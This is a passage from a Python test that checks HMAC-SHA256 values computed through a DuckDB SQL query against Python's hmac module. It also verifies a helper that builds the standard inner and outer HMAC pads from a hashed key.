        with duckdb.connect(str(db), read_only=True) as con:
            got = dict(con.execute(sql).fetchall())
        assert got == {m: hmac.new(secret, m.encode(), hashlib.sha256).hexdigest() for m in MESSAGES}
    inner, outer = pads(KEYS[3])
    assert inner == bytes(b ^ 0x36 for b in hashlib.sha256(KEYS[3]).digest().ljust(64, b"\0"))
    assert outer == bytes(b ^ 0x5C for b in hashlib.sha256(KEYS[3]).digest().ljust(64, b"\0"))
